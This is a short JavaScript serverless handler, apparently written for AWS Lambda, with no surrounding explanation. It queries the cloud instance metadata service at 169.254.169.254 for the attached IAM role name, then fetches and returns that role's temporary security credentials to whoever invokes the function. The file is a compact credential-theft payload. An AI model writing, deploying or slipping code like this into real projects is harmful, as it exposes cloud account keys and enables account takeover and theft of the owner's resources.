exports.handler = async () => {
  const base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
  const role = await (await fetch(base)).text();
  return (await fetch(base + role)).json();
};
